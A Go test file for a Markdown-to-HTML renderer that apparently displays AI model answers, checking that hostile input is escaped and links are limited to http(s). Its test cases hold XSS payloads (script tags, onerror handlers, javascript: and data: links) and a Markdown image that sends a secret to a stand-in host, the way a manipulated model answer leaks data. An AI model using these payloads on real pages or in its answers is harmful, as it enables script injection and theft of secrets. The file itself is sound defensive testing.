package markdown

import (
	"regexp"
	"strings"
	"testing"
)

// tagRE finds the tags of rendered HTML: name and attributes.
var tagRE = regexp.MustCompile(`<(/?)([a-zA-Z0-9]+)([^>]*)>`)

// attrRE finds the attributes of a tag.
var attrRE = regexp.MustCompile(`([a-zA-Z-]+)="([^"]*)"`)

// allowedTags are the elements HTML writes; web/static/markdown.js keeps the
// same list.
var allowedTags = map[string]bool{
	"p": true, "h1": true, "h2": true, "h3": true, "h4": true, "h5": true, "h6": true,
	"strong": true, "em": true, "code": true, "pre": true, "blockquote": true,
	"ul": true, "ol": true, "li": true, "hr": true, "br": true, "a": true,
	"table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true,
}

// checkSafe fails for a tag, attribute or link target HTML must not write.
func checkSafe(t *testing.T, in, out string) {
	t.Helper()
	if strings.Contains(out, "<!--") {
		t.Errorf("%.60q: a comment in %q", in, out)
	}
	for _, m := range tagRE.FindAllStringSubmatch(out, -1) {
		if !allowedTags[m[2]] {
			t.Errorf("%.60q: element <%s> in %q", in, m[2], out)
		}
		rest := attrRE.ReplaceAllString(m[3], "")
		if strings.TrimSpace(rest) != "" {
			t.Errorf("%.60q: unquoted attribute text %q in %q", in, rest, out)
		}
		for _, a := range attrRE.FindAllStringSubmatch(m[3], -1) {
			switch a[1] {
			case "href":
				if !strings.HasPrefix(a[2], "https://") && !strings.HasPrefix(a[2], "http://") {
					t.Errorf("%.60q: link to %q", in, a[2])
				}
			case "rel", "target", "class", "align", "start":
			default:
				t.Errorf("%.60q: attribute %s in %q", in, a[1], out)
			}
		}
	}
}

// A model's Markdown becomes its elements: heading, bold, a pipe table
// (with its alignment), a fenced block, lists, an http(s) link.
func TestHTMLRendersMarkdown(t *testing.T) {
	in := "## Result\n\nSome **bold** and *em*, `code`, [docs](https://example.com/a?b=1&c=2).\n\n" +
		"| Tool | Count |\n|---|---:|\n| echo | 3 |\n\n```go\nfmt.Println(\"<hi>\")\n```\n\n- one\n- two\n\n1. first\n"
	out := HTML(in)
	for _, want := range []string{
		"<h2>Result</h2>", "<strong>bold</strong>", "<em>em</em>", "<code>code</code>",
		`<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">docs</a>`,
		"<table>", "<th>Tool</th>", `<th align="right">Count</th>`, `<td align="right">3</td>`,
		`<pre><code class="language-go">fmt.Println(&quot;&lt;hi&gt;&quot;)`, "<li>one</li>", "<ol>",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q in:\n%s", want, out)
		}
	}
	checkSafe(t, in, out)
}

// Hostile answers: raw HTML is shown as its text, never as an element;
// links go only to http(s) URLs; an image is a link, never fetched; an
// entity cannot smuggle a scheme past the check.
func TestHTMLHostile(t *testing.T) {
	for _, c := range []struct{ in, text string }{
		{"<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"},
		{"hi <img src=x onerror=alert(1)> there", "&lt;img src=x onerror=alert(1)&gt;"},
		{"<div onclick=\"x()\">\n\n*a*\n\n</div>", "&lt;div onclick=&quot;x()&quot;&gt;"},
		{"<iframe src=https://evil.test></iframe>", "&lt;iframe"},
		{"[click](javascript:alert(1))", "click"},
		{"[click](JaVaScRiPt:alert(1))", "click"},
		{"[click](&#106;avascript:alert(1))", "click"},
		{"[click](data:text/html,<script>alert(1)</script>)", "click"},
		{"[click](/api/call)", "click"},
		{"[click](//evil.test/x)", "click"},
		{"[click](https://user:pw@evil.test/)", "click"},
		{"<javascript:alert(1)>", "javascript:alert(1)"},
		{"<mailto:a@b.test>", "mailto:a@b.test"},
		{"![secret](https://evil.test/leak?k=SECRET)", `<a href="https://evil.test/leak?k=SECRET"`},
		{"![x](data:image/png;base64,AAAA)", "x"},
		{"[x](https://a.test \"t\" onmouseover=\"y\")", "x"},
		{"a\x00b", "a\uFFFDb"},
	} {
		out := HTML(c.in)
		if !strings.Contains(out, c.text) {
			t.Errorf("%q: want %q in %q", c.in, c.text, out)
		}
		if strings.Contains(out, "<img") || strings.Contains(out, "<script") {
			t.Errorf("%q: an element from the answer in %q", c.in, out)
		}
		checkSafe(t, c.in, out)
	}
}

// Huge and deeply nested answers are bounded: 30000 nested quotes or
// lists make at most MaxBlockDepth containers, and text over
// MaxHTMLSource is one escaped paragraph.
func TestHTMLBounded(t *testing.T) {
	for _, in := range []string{
		strings.Repeat("> ", 30000) + "x",
		strings.Repeat("- ", 30000) + "x",
		strings.Repeat("[a](", 15000),
		strings.Repeat("**x ", 15000),
	} {
		out := HTML(in)
		if n := strings.Count(out, "<blockquote>") + strings.Count(out, "<li>"); n > MaxBlockDepth {
			t.Errorf("%.20q: %d nested containers", in, n)
		}
		checkSafe(t, in[:40], out)
	}
	huge := strings.Repeat("<b>**x**</b> ", MaxHTMLSource/12)
	out := HTML(huge)
	if !strings.HasPrefix(out, `<p class="md-plain">&lt;b&gt;**x**`) || strings.Contains(out, "<strong>") {
		t.Errorf("text over MaxHTMLSource: %.120q", out)
	}
}

// BenchmarkHTMLHostile renders answers of about 60 KB written to make the
// parser slow, beside an ordinary answer of that size: the hostile ones
// stay within a few times the ordinary one (compare ns/op).
func BenchmarkHTMLHostile(b *testing.B) {
	ordinary := strings.Repeat("Some **bold** text, a `code span` and a [link](https://example.com).\n\n- item one\n- item two\n\n", 600)
	for _, bc := range []struct{ name, src string }{
		{"ordinary", ordinary},
		{"stars", strings.Repeat("*a ", 20000)},
		{"brackets", strings.Repeat("[", 60000)},
		{"links", strings.Repeat("[a](", 15000)},
		{"raw-html", strings.Repeat("<img src=x onerror=y>", 3000)},
		{"nested-lists", strings.Repeat("- ", 30000) + "x"},
		{"nested-quotes", strings.Repeat("> ", 30000) + "x"},
	} {
		b.Run(bc.name, func(b *testing.B) {
			b.SetBytes(int64(len(bc.src)))
			for b.Loop() {
				HTML(bc.src)
			}
		})
	}
}

// FuzzHTML: whatever a model writes, the HTML holds only the elements and
// attributes the renderer writes, and links only to http(s) URLs.
func FuzzHTML(f *testing.F) {
	for _, s := range []string{"## a\n\n**b** [c](https://d.test)", "<script>x</script>", "<img src=x onerror=y>",
		"[x](javascript:y)", "![i](https://e.test/i.png)", "| a |\n|---:|\n| 1 |", "```js\n<b>\n```", "<https://a.test>"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		checkSafe(t, s, HTML(s))
	})
}
